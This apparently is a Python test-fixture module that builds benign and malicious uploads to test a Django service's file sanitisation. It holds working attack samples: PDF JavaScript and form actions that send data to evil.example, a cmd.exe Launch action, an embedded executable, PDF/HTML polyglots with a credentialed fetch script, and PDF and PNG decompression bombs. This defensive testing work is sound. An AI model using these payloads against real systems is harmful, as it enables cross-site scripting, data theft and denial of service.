"""Files for the upload tests, built here rather than shipped: good ones and the attacks."""

import io
import struct
import zlib
from pathlib import Path

import pikepdf
from django.core.files.base import ContentFile
from PIL import Image, ImageCms
from PIL.ExifTags import GPS, IFD, Base
from PIL.PngImagePlugin import PngInfo

SIGNATURES = Path(__file__).resolve().parents[1] / "lib" / "clamav" / "eicar-test.ndb"
Name = pikepdf.Name
Dictionary = pikepdf.Dictionary
Array = pikepdf.Array
String = pikepdf.String

GPS_LATITUDE = ((44, 1), (57, 1), (1234, 100))  # Saint Paul, to the metre: what a phone writes
SCRIPT = b"<script>fetch('/accounts/email/',{credentials:'include'})</script>"
JS = "app.launchURL('https://evil.example/?c='+this.info.Author)"


def eicar() -> bytes:
    """The EICAR test string, read from our signature file so that no source file carries it."""
    return bytes.fromhex(SIGNATURES.read_text().strip().split(":")[3])


def upload(data: bytes, name: str) -> ContentFile:
    """What a form hands the service: a file with a name and a size."""
    return ContentFile(data, name=name)


# --- PDF -------------------------------------------------------------------


def new_pdf(pages: int = 1, content: bytes = b"0 0 1 rg 72 72 200 100 re f\n") -> pikepdf.Pdf:
    pdf = pikepdf.new()
    for _ in range(pages):
        pdf.add_blank_page(page_size=(612, 792))
        pdf.pages[-1].obj.Contents = pdf.make_stream(content)
    return pdf


def pdf_bytes(pdf: pikepdf.Pdf, **save) -> bytes:
    out = io.BytesIO()
    pdf.save(out, compress_streams=False, **save)
    return out.getvalue()


def plain_pdf(pages: int = 1) -> bytes:
    pdf = new_pdf(pages)
    pdf.docinfo["/Author"] = "Jane Q. Client"
    pdf.docinfo["/Producer"] = "Scanner Suite 9"
    with pdf.open_metadata() as meta:
        meta["dc:creator"] = ["Jane Q. Client"]
    return pdf_bytes(pdf)


def pdf_with_javascript() -> bytes:
    """Every place a PDF can hide a script or an automatic action."""
    pdf = new_pdf(2)
    script = pdf.make_indirect(Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String(JS)))
    root = pdf.Root
    root.OpenAction = script
    root.AA = Dictionary(WC=script, DP=Dictionary(S=Name.JavaScript, JS=String(JS)))
    root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("init"), script])))
    page = pdf.pages[0].obj
    page.AA = Dictionary(O=Dictionary(S=Name.JavaScript, JS=String(JS)))
    rect = Array([72, 600, 300, 620])
    page.Annots = Array(
        [
            Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=rect, A=Dictionary(S=Name.Launch, F=String("cmd.exe"))),
            Dictionary(
                Type=Name.Annot, Subtype=Name.Link, Rect=rect, A=Dictionary(S=Name.URI, URI=String("javascript:" + JS))
            ),
            Dictionary(
                Type=Name.Annot,
                Subtype=Name.Link,
                Rect=rect,
                A=Dictionary(S=Name.GoTo, D=Array([pdf.pages[1].obj, Name.Fit]), Next=script),
            ),
            Dictionary(
                Type=Name.Annot,
                Subtype=Name.Link,
                Rect=rect,
                A=Dictionary(S=Name.SubmitForm, F=String("https://evil.example/")),
            ),
            Dictionary(
                Type=Name.Annot, Subtype=Name.Link, Rect=rect, A=Dictionary(S=Name.ImportData, F=String("data.fdf"))
            ),
            Dictionary(
                Type=Name.Annot, Subtype=Name.Text, Rect=rect, Contents=String("a note"), AA=Dictionary(E=script)
            ),
            # The one that should survive: an ordinary web link.
            Dictionary(
                Type=Name.Annot,
                Subtype=Name.Link,
                Rect=rect,
                A=Dictionary(S=Name.URI, URI=String("https://www.mnsure.org/")),
            ),
        ]
    )
    outline = pdf.make_indirect(Dictionary(Type=Name.Outlines))
    bookmark = pdf.make_indirect(Dictionary(Title=String("Start"), Parent=outline, A=script))
    outline.First = outline.Last = bookmark
    outline.Count = 1
    root.Outlines = outline
    return pdf_bytes(pdf)


def pdf_with_embedded_file(payload: bytes) -> bytes:
    pdf = new_pdf()
    stream = pdf.make_stream(payload, Type=Name.EmbeddedFile)
    filespec = pdf.make_indirect(Dictionary(Type=Name.Filespec, F=String("invoice.exe"), EF=Dictionary(F=stream)))
    pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([String("invoice.exe"), filespec])))
    pdf.pages[0].obj.Annots = Array(
        [
            Dictionary(
                Type=Name.Annot,
                Subtype=Name.FileAttachment,
                Rect=Array([72, 72, 90, 90]),
                FS=filespec,
                Name=Name.PushPin,
            )
        ]
    )
    return pdf_bytes(pdf)


def pdf_with_form() -> bytes:
    pdf = new_pdf()
    page = pdf.pages[0].obj
    field = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Tx,
            T=String("ssn"),
            Rect=Array([72, 500, 300, 520]),
            P=page,
            AA=Dictionary(K=Dictionary(S=Name.JavaScript, JS=String(JS))),
        )
    )
    page.Annots = Array([field])
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]), NeedAppearances=True)
    return pdf_bytes(pdf)


def pdf_html_polyglot() -> bytes:
    """Opens as a PDF in a viewer and, served inline as text/html, runs a script in a browser."""
    good = plain_pdf()
    header, rest = good.split(b"\n", 1)
    return header + b"\n<html><body>" + SCRIPT + b"</body></html>\n" + rest


def html_then_pdf() -> bytes:
    """The same trick the other way round: an HTML page with a PDF after it (libmagic calls it a PDF)."""
    return b"<html><body>" + SCRIPT + b"</body></html>\n" + plain_pdf()


def pdf_carrying_eicar() -> bytes:
    """A valid PDF whose page content stream holds the EICAR string in a comment (viewers ignore it)."""
    return pdf_bytes(new_pdf(content=b"% " + eicar() + b"\n0 0 1 rg 72 72 200 100 re f\n"))


def pdf_with_runlength_bomb(megabytes: int = 2) -> bytes:
    """A page image whose RunLength data inflates 64 times (2 MB here, 128 MB decoded)."""
    pdf = new_pdf()
    stream = pdf.make_stream(b"")
    stream.write(b"\x81\x00" * (megabytes * 512 * 1024) + b"\x80", filter=Name.RunLengthDecode)
    stream.Type, stream.Subtype = Name.XObject, Name.Image
    stream.Width, stream.Height, stream.ColorSpace, stream.BitsPerComponent = 16384, 8192, Name.DeviceGray, 8
    pdf.pages[0].obj.Resources = Dictionary(XObject=Dictionary(Im0=stream))
    return pdf_bytes(pdf)


def encrypted_pdf(user_password: str = "") -> bytes:
    return pdf_bytes(new_pdf(), encryption=pikepdf.Encryption(owner="owner-secret", user=user_password, R=6))


# --- Images ----------------------------------------------------------------


def _picture(width: int, height: int) -> Image.Image:
    """White, with its left quarter black, so that a rotation shows."""
    image = Image.new("RGB", (width, height), "white")
    image.paste((0, 0, 0), (0, 0, width // 4, height))
    return image


def _srgb_icc() -> bytes:
    return ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()


def phone_photo(width: int = 120, height: int = 80) -> bytes:
    """A JPEG as a phone writes it: sideways pixels with Orientation 6, GPS, camera, ICC, a comment."""
    exif = Image.Exif()
    exif[Base.Orientation] = 6  # rotate 90° clockwise to view
    exif[Base.Make] = "PhoneMaker"
    exif[Base.Model] = "Phone 15"
    gps = exif.get_ifd(IFD.GPSInfo)
    gps[GPS.GPSLatitudeRef] = "N"
    gps[GPS.GPSLatitude] = tuple(n / d for n, d in GPS_LATITUDE)
    gps[GPS.GPSLongitudeRef] = "W"
    gps[GPS.GPSLongitude] = (93.0, 5.0, 42.5)
    out = io.BytesIO()
    _picture(width, height).save(
        out, "JPEG", exif=exif.tobytes(), icc_profile=_srgb_icc(), comment=b"Jane's ID card", quality=95
    )
    return out.getvalue()


def png_with_metadata(width: int = 64, height: int = 48) -> bytes:
    info = PngInfo()
    info.add_text("Author", "Jane Q. Client")
    info.add_itxt("Description", "ID card, front", lang="en")
    info.add_text("Comment", "compressed", zip=True)
    exif = Image.Exif()
    exif[Base.Make] = "ScannerMaker"
    out = io.BytesIO()
    _picture(width, height).save(out, "PNG", pnginfo=info, icc_profile=_srgb_icc(), exif=exif.tobytes())
    return out.getvalue()


def png_with_text(info: PngInfo) -> bytes:
    out = io.BytesIO()
    _picture(32, 32).save(out, "PNG", pnginfo=info)
    return out.getvalue()


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_chunks(data: bytes) -> list[bytes]:
    """The chunk types of a PNG, in order."""
    kinds, offset = [], 8
    while offset < len(data):
        (length,) = struct.unpack(">I", data[offset : offset + 4])
        kinds.append(data[offset + 4 : offset + 8])
        offset += 12 + length
    return kinds


def png_claiming(width: int, height: int) -> bytes:
    """A PNG whose header declares width × height, with almost no pixel data behind it."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", header)
        + _chunk(b"IDAT", zlib.compress(b"\0" * 64))
        + _chunk(b"IEND", b"")
    )


def png_bomb(side: int = 30_000) -> bytes:
    """A valid black-and-white PNG, side × side pixels, that zlib squeezes into a small file."""
    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)  # 1 bit per pixel, greyscale
    row = b"\0" + b"\0" * ((side + 7) // 8)
    packer = zlib.compressobj(9)
    body = b"".join(packer.compress(row) for _ in range(side)) + packer.flush()
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", body) + _chunk(b"IEND", b"")


def jpeg(width: int = 40, height: int = 30) -> bytes:
    out = io.BytesIO()
    _picture(width, height).save(out, "JPEG", quality=90)
    return out.getvalue()


def png(width: int = 40, height: int = 30) -> bytes:
    out = io.BytesIO()
    _picture(width, height).save(out, "PNG")
    return out.getvalue()
